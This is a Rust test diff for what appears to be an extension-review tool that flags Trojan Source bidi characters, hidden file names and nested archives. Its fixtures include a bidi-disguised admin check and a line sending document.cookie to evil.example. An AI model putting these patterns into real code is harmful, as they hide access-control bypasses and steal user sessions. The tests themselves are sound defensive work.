@@ -392,6 +392,177 @@ fn build_spans_cuts_at_tokens_and_changes_within_the_window() {
 }
 
 #[test]
+fn hidden_characters_are_drawn_as_markers_and_intraline_changes_stay_on_their_words() {
+    // Trojan Source (CVE-2021-42574): the RLO and isolates make the check read as a comment.
+    let old = "let a = 1;\nif (isAdmin) { return; }\n";
+    let new =
+        "let a = 1;\nif (isAdmin) { /*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} return; }\n";
+    let (store, _dir, mut s, i) = pair_with(old, new);
+    s.view_file(&store, i, ViewOptions::default()).unwrap();
+    let rows = s.rows(&store, i, 0, 10, 0, 200).unwrap();
+    let added = rows
+        .iter()
+        .find_map(|r| match r {
+            ViewRow::Line {
+                new: Some(c),
+                old: None,
+                ..
+            } if c.kind == RowKind::Added => Some(c.clone()),
+            _ => None,
+        })
+        .expect("an added line");
+    let markers: Vec<&str> = added
+        .spans
+        .iter()
+        .filter(|s| s.hidden)
+        .map(|s| s.text.as_str())
+        .collect();
+    assert_eq!(markers, ["<U+202E>", "<U+2066>", "<U+2069>", "<U+2066>"]);
+    // No span carries a hidden character itself: each is drawn, never passed through.
+    assert!(
+        added
+            .spans
+            .iter()
+            .all(|s| !vetter_text::has_hidden(&s.text))
+    );
+    assert_eq!(
+        cell_text(&Some(added.clone())),
+        "if (isAdmin) { /*<U+202E> } <U+2066>if (isAdmin)<U+2069> <U+2066> return; }"
+    );
+    // The words the line gained are marked changed, the shared prefix and suffix are not: the
+    // intraline ranges were cut on the stored text, before the markers.
+    let first = &added.spans[0];
+    assert!(first.text.starts_with("if") && !first.changed);
+    assert!(added.spans.iter().any(|s| s.hidden && s.changed));
+    let last = added.spans.last().unwrap();
+    assert!(
+        last.text.ends_with("return; }") && !last.changed,
+        "{last:?}"
+    );
+}
+
+/// The MV2 fixture and its next version, both holding `lib/engine.jar` (whose `core.js`
+/// changes between them) and, in the newer one, a Trojan Source file and a file whose name
+/// hides a zero-width space.
+fn pair_with_hidden_text_and_a_nested_jar() -> (Store, tempfile::TempDir, i64, i64) {
+    let dir = tempfile::tempdir().unwrap();
+    let mut store = Store::open(dir.path()).unwrap();
+    let mut v1 = mv2_addon();
+    let jar1 = vetter_fixtures::zip_files(&[("core.js", "run();\n"), ("README", "engine\n")]);
+    set_file(&mut v1, "lib/engine.jar", &jar1);
+    let mut v2 = next_version(&mv2_addon());
+    let jar2 = vetter_fixtures::zip_files(&[
+        (
+            "core.js",
+            "run();\nfetch(\"https://evil.example/\" + document.cookie);\n",
+        ),
+        ("README", "engine\n"),
+    ]);
+    set_file(&mut v2, "lib/engine.jar", &jar2);
+    set_file(
+        &mut v2,
+        "admin.js",
+        "var ok = 1;\nif (isAdmin) { /*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} x(); }\n"
+            .as_bytes(),
+    );
+    set_file(&mut v2, "pay\u{200B}ment.js", b"pay();\n");
+    let a = import(&mut store, "v1.xpi", &v1);
+    let b = import(&mut store, "v2.xpi", &v2);
+    (store, dir, a, b)
+}
+
+#[test]
+fn hidden_characters_and_nested_archives_are_signals_of_their_files() {
+    let (store, _dir, _a, b) = pair_with_hidden_text_and_a_nested_jar();
+    let signals = content_signals(&store, b).unwrap();
+    let got: Vec<(&str, &str, u32, Option<u32>)> = signals
+        .iter()
+        .map(|s| (s.path.as_str(), s.rule.as_str(), s.line, s.column))
+        .collect();
+    assert_eq!(
+        got,
+        [
+            ("admin.js", RULE_HIDDEN_TEXT, 2, Some(18)),
+            ("lib/engine.jar", RULE_NESTED_ARCHIVE, 1, None),
+            ("pay\u{200B}ment.js", RULE_HIDDEN_NAME, 1, None),
+        ]
+    );
+    assert!(signals.iter().all(|s| s.source == SignalSource::Local));
+    let admin = signals[0].message.as_deref().unwrap();
+    assert!(
+        admin.contains("U+202E RIGHT-TO-LEFT OVERRIDE")
+            && admin.contains("U+2066 LEFT-TO-RIGHT ISOLATE ×2"),
+        "{admin}"
+    );
+    // The older version has neither hidden text nor a new file: only its jar is flagged.
+    let older = content_signals(&store, _a).unwrap();
+    assert_eq!(older.len(), 1);
+    assert_eq!(older[0].rule, RULE_NESTED_ARCHIVE);
+}
+
+#[test]
+fn files_inside_a_nested_archive_are_diffed_like_the_packages_own() {
+    let (store, _dir, a, b) = pair_with_hidden_text_and_a_nested_jar();
+    let mut session = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
+    let i = index_of(&session, "lib/engine.jar!/core.js");
+    assert_eq!(
+        session.summary().files[i].change.status,
+        FileStatus::Modified
+    );
+    // The unchanged inner file is not listed as a change, like any unchanged file.
+    assert!(
+        !session
+            .summary()
+            .files
+            .iter()
+            .any(|f| f.change.path == "lib/engine.jar!/README")
+    );
+    session
+        .view_file(&store, i, ViewOptions::default())
+        .unwrap();
+    let rows = session.rows(&store, i, 0, 10, 0, 200).unwrap();
+    let added: Vec<String> = rows
+        .iter()
+        .filter_map(|r| match r {
+            ViewRow::Line { new: Some(c), .. } if c.kind == RowKind::Added => {
+                Some(cell_text(&Some(c.clone())))
+            }
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        added,
+        ["fetch(\"https://evil.example/\" + document.cookie);"]
+    );
+}
+
+#[test]
+fn every_signal_of_a_version_lists_the_servers_and_the_local_ones() {
+    let (mut store, _dir, _a, b) = pair_with_hidden_text_and_a_nested_jar();
+    let guid = store.version(b).unwrap().guid;
+    store_signals(
+        &mut store,
+        b,
+        r#"{"scanners": [{"scanner": "yara", "rule": "eval", "files": [{"path": "background.js", "lines": [1]}]}]}"#,
+    );
+    let all = version_signals(&store, b).unwrap();
+    let rules: Vec<(&str, &str)> = all
+        .iter()
+        .map(|s| (s.scanner.as_str(), s.rule.as_str()))
+        .collect();
+    assert_eq!(
+        rules,
+        [
+            ("yara", "eval"),
+            (VETTER_SCANNER, RULE_HIDDEN_TEXT),
+            (VETTER_SCANNER, RULE_NESTED_ARCHIVE),
+            (VETTER_SCANNER, RULE_HIDDEN_NAME),
+        ],
+        "{guid}"
+    );
+}
+
+#[test]
 fn session_can_move_between_threads() {
     fn is_send<T: Send>() {}
     is_send::<ReviewSession>();
